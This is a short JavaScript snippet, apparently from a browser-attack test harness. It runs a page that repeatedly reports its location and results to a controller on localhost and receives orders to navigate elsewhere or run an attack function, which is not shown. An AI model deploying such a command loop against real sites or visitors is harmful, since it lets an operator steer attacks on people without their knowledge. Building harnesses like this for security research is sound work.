// What makes a page a stranger's: it asks him, at the port behind the # of its address, what to do, does it, and says
// what came of it. Beside `attack(base, tokens, done)`.
(async () => {
  let found = null;
  for (;;) {
    const said = JSON.stringify({ at: location.href, found });
    const asked = fetch(`http://127.0.0.1:${location.hash.slice(1)}/orders`, { method: "POST", body: said });
    const order = await asked.then((answer) => answer.json()).catch(() => null);
    found = null;
    if (order?.go) {
      location.href = order.go;
      return;
    }
    if (order?.attack) found = await new Promise((done) => attack(...order.attack, done));
    else await new Promise((end) => setTimeout(end, 50));
  }
})();
